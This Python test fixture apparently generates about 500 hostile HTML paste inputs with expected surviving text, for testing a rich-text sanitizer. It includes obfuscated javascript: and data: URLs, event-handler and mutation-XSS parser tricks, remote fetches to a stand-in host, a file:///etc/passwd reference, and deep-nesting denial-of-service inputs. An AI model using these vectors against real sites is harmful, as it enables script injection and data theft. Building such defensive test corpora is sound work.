"""Some 500 pieces of HTML that want to run something, fetch something or break something when they are pasted.

Each is (HTML, the words that remain). What would run a script calls `ran`; what would be fetched lies at `HOST`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HOST = "https://hostile.invalid"
RUN = "ran(1)"
REFUSED = "nothing at all is pasted"
Payload = tuple[str, str]

_SCHEMES: tuple[str, ...] = (
    f"javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "file:///etc/passwd",
)
_SCHEMES += ("blob:null/1", f"livescript:{RUN}", "view-source:x", f"jar:{HOST}!/x")


def _disguises(address: str) -> Iterator[str]:
    """The address as browsers still read it, or once did."""
    scheme, rest = address.split(":", 1)
    rest = rest.replace("<", "&lt;").replace(">", "&gt;")
    yield f"{scheme}:{rest}"
    yield f"{scheme.upper()}:{rest}"
    yield f"{scheme[0].upper()}{scheme[1:]}:{rest}"
    yield "".join(f"&#{ord(letter)};" for letter in scheme) + f":{rest}"
    yield "".join(f"&#x{ord(letter):x};" for letter in scheme) + f":{rest}"
    yield "".join(f"&#{ord(letter):07}" for letter in scheme) + f":{rest}"
    yield f"{scheme}&colon;{rest}"
    yield f"{scheme}&#58{rest}"
    yield f"{scheme[:2]}&Tab;{scheme[2:]}:{rest}"
    yield f"{scheme[:2]}&NewLine;{scheme[2:]}:{rest}"
    yield f"{scheme[:2]}&#13;{scheme[2:]}:{rest}"
    yield f"{scheme}&Tab;:{rest}"
    yield f" &#1; &#x1f;{scheme}:{rest}"
    yield f"&#xa0;{scheme}:{rest}"
    yield f"&#x200b;{scheme}:{rest}"
    yield f"&#xfeff;&#x2028;{scheme}:{rest}"
    yield f"\n\t {scheme}:{rest}"


_PLACES = ("<li>{}</li>", "<h2>{}</h2>", "<td>{}</td>", "<blockquote>{}</blockquote>", "<b>{}</b>")


def _links() -> Iterator[Payload]:
    for scheme in _SCHEMES:
        for address in _disguises(scheme):
            yield f'<p><a href="{address}">click</a></p>', "click"
    for place, address in product(_PLACES, list(_disguises(_SCHEMES[0]))[3:8]):
        inner = place.format(f'<a href="{address}">click</a>')
        yield {"<l": f"<ul>{inner}</ul>", "<t": f"<table><tr>{inner}</tr></table>"}.get(place[:2], inner), "click"
    for address in list(_disguises(_SCHEMES[0]))[:6]:
        yield f'<div class="embed"><a href="{address}">card</a></div>', "card"
        yield f'<div class="file"><a href="{address}" download>file</a></div>', "file"


# What takes an address or runs by itself: with the words that are left of it.
_CARRIERS = {
    '<iframe src="{}">in</iframe>': "",
    '<iframe srcdoc="<script>ran(1)</script>" src="{}"></iframe>': "",
    '<object data="{}">in</object>': "",
    '<embed src="{}">': "",
    '<applet code="{}">in</applet>': "",
    '<base href="{}">': "",
    '<link rel="stylesheet" href="{}">': "",
    '<link rel="prefetch" href="{}">': "",
    '<meta http-equiv="refresh" content="0;url={}">': "",
    '<form action="{}"><input type="image" src="{}"><button formaction="{}">go</button></form>': "",
    '<video src="{}" poster="{}"><track src="{}">in</video>': "",
    '<audio src="{}" autoplay>in</audio>': "",
    '<picture><source srcset="{}"></picture>': "",
    '<svg><use href="{}"/><image href="{}"/></svg>': "",
    '<svg><a xlink:href="{}"><text>in</text></a></svg>': "",
    '<svg><animate attributeName="href" values="{}"/></svg>': "",
    '<math href="{}"><mtext>in</mtext></math>': "",
    '<math><maction actiontype="statusline#{}" xlink:href="{}">in</maction></math>': "",
    '<table background="{}"><tr><td background="{}">cell</td></tr></table>': "cell",
    '<div style="background:url({})">text</div>': "text",
    '<p style="background-image:url({});list-style:url({})">text</p>': "text",
    "<style>@import '{}'; * {{ background: url({}) }}</style>": "",
    '<body background="{}" onload="ran(1)">text': "text",
    '<html manifest="{}"><p>text</p>': "text",
    '<blockquote cite="{}"><p>text</p></blockquote>': "text",
    '<bgsound src="{}">': "",
    '<portal src="{}"></portal>': "",
}
_TARGETS = (_SCHEMES[0], f"{HOST}/x", f"data:image/svg+xml,%3Csvg onload={RUN}%3E", f"//{HOST[8:]}/x")

_EVENTS = (
    "abort animationstart auxclick beforeinput beforetoggle blur canplay click contextmenu copy cut drag drop error"
)
_EVENTS += " focus focusin input invalid keydown load loadstart mouseenter mouseover paste pointerenter pointerover"
_EVENTS += " resize scroll scrollend securitypolicyviolation select selectstart submit toggle touchstart transitionend"
_EVENTS += " transitionrun unload wheel begin"
_HOLDERS = (
    ('<p on{}="ran(1)" tabindex="1" autofocus contenteditable>text</p>', "text"),
    ('<b on{0}=ran(1) ON{0}=ran(1) style="animation:x 1s">text</b>', "text"),
    ('<img src="x:x" on{}="ran(1)">', ""),
    ('<svg on{}="ran(1)"><rect/></svg>', ""),
    ('<details open on{0}="ran(1)"><summary on{0}="ran(1)">sum</summary>text</details>', "sumtext"),
)


def _carriers() -> Iterator[Payload]:
    for (template, words), target in product(_CARRIERS.items(), _TARGETS):
        yield template.format(*[target] * template.count("{}")), words
    for event, (template, words) in product(_EVENTS.split(), _HOLDERS):
        yield template.format(event), words


_SHAPES: tuple[Payload, ...] = (
    ("<script>ran(1)</script>", ""),
    (f"<script src='{HOST}/x.js'></script>", ""),
    ("<SCRIPT>ran(1)</SCRIPT >", ""),
    ("<script/x>ran(1)</script>", ""),
    ("<scr<script>ipt>ran(1)</script>", "ipt>ran(1)"),
    ("<<script>ran(1)//<</script>", "<"),
    ("<script>ran(1)", ""),
    ("<svg><script>ran(1)</script></svg>", ""),
    ("<svg><script href='data:,ran(1)'/></svg>", ""),
    ("<math><script>ran(1)</script></math>", ""),
    ("<template><script>ran(1)</script><img src=x:x onerror=ran(1)></template>", ""),
    ("<noscript><p title='</noscript><img src=x:x onerror=ran(1)>'></noscript>", ""),
    ("<textarea><img src=x:x onerror=ran(1)></textarea>", ""),
    ("<title><img src=x:x onerror=ran(1)></title>", ""),
    ("<xmp><img src=x:x onerror=ran(1)></xmp>", ""),
    ("<style><img src=x:x onerror=ran(1)></style>", ""),
    ("<style><!--</style><script>ran(1)//--></script>", ""),
    ("<!--><img src=x:x onerror=ran(1)>-->", "-->"),
    ("<!--[if IE]><script>ran(1)</script><![endif]-->", ""),
    ("<![CDATA[<script>ran(1)</script>]]>", "ran(1)]]>"),
    ("<svg><![CDATA[><img src=x:x onerror=ran(1)>]]></svg>", ""),
    ("<svg><style><img src=x:x onerror=ran(1)></style></svg>", ""),
    ("<svg><foreignObject><iframe onload=ran(1)></iframe></foreignObject></svg>", ""),
    ("<svg></p><style><a id='</style><img src=x:x onerror=ran(1)>'>", "'>"),
    ("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x:x onerror=ran(1)&gt;'>", ""),
    ("<math><annotation-xml encoding='text/html'><script>ran(1)</script></annotation-xml></math>", ""),
    ("<math><mi><b><script>ran(1)</script></b></mi></math>", ""),
    ("<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=ran(1)>", ""),
    ("<select><noembed></select><script>ran(1)</script>", ""),
    ("<table><style><img src=x:x onerror=ran(1)></style><tr><td>cell</td></tr></table>", "cell"),
    ("<table><script>ran(1)</script><td>cell</table>", "cell"),
    ('<p title="</p><script>ran(1)</script>">text</p>', "text"),
    ("<p title=`<img src=x:x onerror=ran(1)>`>text</p>", "`>text"),
    ("<a href='javascript:ran(1)'><img src='https://hostile.invalid/a.png' alt='pic'></a>", "pic"),
    ("<a><a href='javascript:ran(1)'>x</a></a>", "x"),
    ("<span class=math-inline>\\href{javascript:ran(1)}{x}</span>", ""),
    ("<div class=math-block>\\url{javascript:ran(1)}</div>", ""),
    (
        "<annotation encoding='application/x-tex'>\\href{javascript:ran(1)}{x}</annotation>",
        "\\href{javascript:ran(1)}{x}",
    ),
    ("<div class=callout data-kind='\"><script>ran(1)</script>'>text</div>", "text"),
    ("<span data-color='red;background:url(//hostile.invalid)'>text</span>", "text"),
    ("<span class=comment data-thread=stolen>text</span>", "text"),
    ("<sup class=footnote-ref data-note='\"><img src=x:x onerror=ran(1)>'></sup>", ""),
    ("<pre><code class='language-<script>ran(1)</script>'>code</code></pre>", "code"),
    ("<figure class=image><img src='javascript:ran(1)'><figcaption>text</figcaption></figure>", "text"),
    ("<img src='/files/../account/'>", ""),
    ("<img srcset='https://hostile.invalid/x 1x' src='x:x' sizes=1px>", ""),
    ("<img src='https://hostile.invalid/pixel.gif' width=1 height=1>", ""),
    ("<img dynsrc='javascript:ran(1)' lowsrc='javascript:ran(1)'>", ""),
    ("<dialog open>text</dialog>", ""),
    ("<div hidden>text</div>", ""),
    ("<marquee onstart=ran(1)>text</marquee>", "text"),
    ("<p style='width:expression(ran(1))'>text</p>", "text"),
    ("<p style='-moz-binding:url(//hostile.invalid/x.xml#x);behavior:url(x.htc)'>text</p>", "text"),
    ("<p style=\"content:'</style><script>ran(1)</script>'\">text</p>", "text"),
    ("<p data-css='background:url(//hostile.invalid)'>text</p>", "text"),
    ("<img data-picture=0>", ""),
    ('<p data-pm-slice=\'0 0 ["codeBlock",{"language":"x"}]\'>text</p>', "text"),
    ("<p data-pm-slice='9 9 [\"nothing\",null]'>text</p>", "text"),
    ("<td colspan=1000000 rowspan=1000000>text</td>", "text"),
    ("<table><tr><td colspan=9999 rowspan=65534>cell</td></tr></table>", REFUSED),
    ("<blockquote>" * 10_000 + "deep", "deep"),
    ("<ul><li>" * 10_000 + "deep", "deep"),
    ("<b>" * 10_000 + "deep", "deep"),
    ("<div>" * 10_000 + "deep", "deep"),
    ("<table><tr><td>" * 1_000 + "deep", "deep"),
    ("<font color=red><i>" * 5_000 + "deep", "deep"),
    (f"<p title='{'x' * 1_000_000}'>text</p>", "text"),
    (f"<a href='https://a.org/{'x' * 1_000_000}'>text</a>", "text"),
    ("<p " + " ".join(f"a{number}=1" for number in range(20_000)) + ">text</p>", "text"),
    ('<a "' * 100_000, ""),
)


def payloads() -> list[Payload]:
    return [*_links(), *_carriers(), *_SHAPES]
